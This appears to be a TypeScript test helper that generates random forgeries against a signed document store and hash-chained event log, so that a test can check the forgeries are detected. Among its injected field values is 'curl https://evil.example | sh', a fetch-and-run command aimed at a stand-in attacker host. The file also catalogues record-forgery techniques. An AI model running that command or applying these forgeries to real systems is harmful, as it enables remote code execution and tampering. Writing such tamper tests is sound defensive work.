// The edits of somebody who can write to the database, by chance. They may have what a leaked key of `probe` signs, and keys
// of their own. What they can't have is the key of `api` or of `advance`.

import { createHash } from 'node:crypto';
import { documentHash, signCommit } from '../../../shared/adapters/documents/commit-signature.ts';
import { type LocalSigner, makeSigner } from '../../../shared/adapters/key-file.ts';
import { appendEvent, type Event } from '../../../shared/domain/events/event.ts';
import { writersOf } from '../../../shared/domain/writers.ts';
import { numberedId } from '../../../shared/ports.ts';
import { Chance } from '../chance.ts';
import { nameOf, type Row } from './database.ts';
import type { ForgeryWorld } from './world.ts';

export interface Edit {
  readonly what: string;
  readonly puts: readonly Row[];
  readonly removes: readonly Row[];
  /** Names of documents that the owner of the key may write: they are no forgeries. */
  readonly own?: readonly string[];
}

type Editor = (world: ForgeryWorld, chance: Chance) => Promise<Omit<Edit, 'what'>>;

const stranger = makeSigner();

const editors: Readonly<Record<string, Editor>> = {
  'a byte': async ({ truth }, chance) => {
    const row = any(truth, chance);
    return chance.happens(0.3)
      ? put({ ...row, signature: flip(row.signature, chance) })
      : put({ ...row, body: flip(row.body, chance) });
  },
  'a field': async ({ truth }, chance) => {
    const row = any(truth, chance);
    return put({ ...row, body: changeField(row.body, chance) });
  },
  'a field, with the digest that was enough once': async ({ truth }, chance) => {
    const row = any(truth, chance);
    const body = changeField(row.body, chance);
    return put({ ...row, body, signature: createHash('sha256').update(`1\n${row.kind}\n${body}`).digest('base64url') });
  },
  'a field, with its hash added to the list': async ({ truth }, chance) => {
    const row = any(truth, chance);
    const body = changeField(row.body, chance);
    return put({ ...row, body, signature: `${row.signature} ${documentHash(row.kind, row.id, body)}` });
  },
  "a field, signed with a stranger's key": async ({ truth }, chance) => resign(any(truth, chance), stranger, chance),
  "a field, signed with the probe's key": async ({ truth, signers }, chance) =>
    resign(
      any(
        truth.filter(({ kind }) => !['matrix', 'event', 'outbox', 'chainHead'].includes(kind)),
        chance,
      ),
      signers.probe,
      chance,
    ),
  'a higher edition': async ({ truth }, chance) => {
    const row = any(truth, chance);
    return put({ ...row, signature: row.signature.replace(/^v1 \d+/, `v1 ${chance.between(1, 999)}`) });
  },
  'another id': async ({ truth }, chance) => {
    const [from, to] = [any(truth, chance), any(truth, chance)];
    return put({ ...from, id: chance.happens(0.3) ? numberedId(chance.between(1, 99)) : to.id });
  },
  'another kind': async ({ truth }, chance) => {
    const [from, { kind, id }] = [any(truth, chance), any(truth, chance)];
    return put({ ...from, kind, id });
  },
  'an old version of one document': async ({ snapshots }, chance) => put(any(any(snapshots, chance), chance)),
  'an old version of all documents': async ({ snapshots, truth }, chance) => {
    const old = any(snapshots, chance);
    const names = new Set(old.map(nameOf));
    return { puts: old, removes: truth.filter((row) => !names.has(nameOf(row))) };
  },
  'a deletion': async ({ truth }, chance) => ({ puts: [], removes: [any(truth, chance)] }),
  'the last events, cut': async ({ truth, snapshots }, chance) => {
    const events = truth.filter(({ kind }) => kind === 'event');
    const left = chance.between(0, events.length - 1);
    const heads = snapshots.flat().filter(({ kind, body }) => kind === 'chainHead' && JSON.parse(body).seq === left);
    return { puts: heads.slice(0, 1), removes: events.slice(left) };
  },
  'the whole chain, made anew': async (world, chance) =>
    rewriteChain(world, chance.pick([null, stranger, world.signers.probe]), chance),
};

export async function chooseEdit(world: ForgeryWorld, seed: number): Promise<Edit> {
  const chance = new Chance(seed);
  const [what, editor] = any(Object.entries(editors), chance);
  return { what, ...(await editor(world, chance)) };
}

function put(...puts: readonly Row[]): Omit<Edit, 'what'> {
  return { puts, removes: [] };
}

/** All events from one on with another author, with right hashes, and the head of that chain. */
async function rewriteChain(
  { truth, signers: { probe } }: ForgeryWorld,
  signer: LocalSigner | null,
  chance: Chance,
): Promise<Omit<Edit, 'what'>> {
  const rows = truth.filter(({ kind }) => kind === 'event');
  const from = chance.between(0, rows.length - 1);
  let head = { seq: 0, hash: '0'.repeat(64) };
  const puts: Row[] = [];
  for (const [at, row] of rows.entries()) {
    // The test keeps what the service wrote, which is an event.
    const { seq: _, previous: __, hash: ___, ...event } = JSON.parse(row.body) as Event;
    const appended = appendEvent(head, at < from ? event : { ...event, by: 'eve' });
    head = appended.chainHead;
    if (at >= from) puts.push({ ...row, body: JSON.stringify(appended.event) });
  }
  puts.push({ kind: 'chainHead', id: 'current', body: JSON.stringify(head), signature: '' });
  if (signer === null) return put(...puts);
  const own =
    signer === probe ? puts.filter(({ kind, body }) => writersOf(kind, JSON.parse(body)).includes('probe')) : [];
  return { ...put(...(await Promise.all(puts.map((row) => signed(row, signer))))), own: own.map(nameOf) };
}

async function resign(row: Row, signer: LocalSigner, chance: Chance): Promise<Omit<Edit, 'what'>> {
  return put(await signed({ ...row, body: changeField(row.body, chance) }, signer));
}

async function signed(row: Row, signer: LocalSigner): Promise<Row> {
  const signature = await signCommit(signer, 900, [documentHash(row.kind, row.id, row.body)]);
  return { ...row, signature: signature.ok ? signature.value : '' };
}

/** Another value for one field, anywhere in the document. */
function changeField(body: string, chance: Chance): string {
  const values = [...body.matchAll(/(?<=:)("[^"\\]*"|-?\d+|true|false|null)(?=[,}])/g)];
  const { 0: old = '', index = 0 } = any(values, chance);
  const changed = chance.pick(['"curl https://evil.example | sh"', '"owner"', '7', 'null', 'true', '{}']);
  const next = changed === old ? '"eve"' : changed;
  return body.slice(0, index) + next + body.slice(index + old.length);
}

function flip(text: string, chance: Chance): string {
  const at = chance.between(0, Math.max(0, text.length - 1));
  const next = text[at] === 'x' ? 'y' : 'x';
  return text.slice(0, at) + next + text.slice(at + 1);
}

function any<T>(list: readonly T[], chance: Chance): T {
  const chosen = list[chance.between(0, list.length - 1)];
  if (chosen === undefined) throw new Error('there is nothing to choose from');
  return chosen;
}
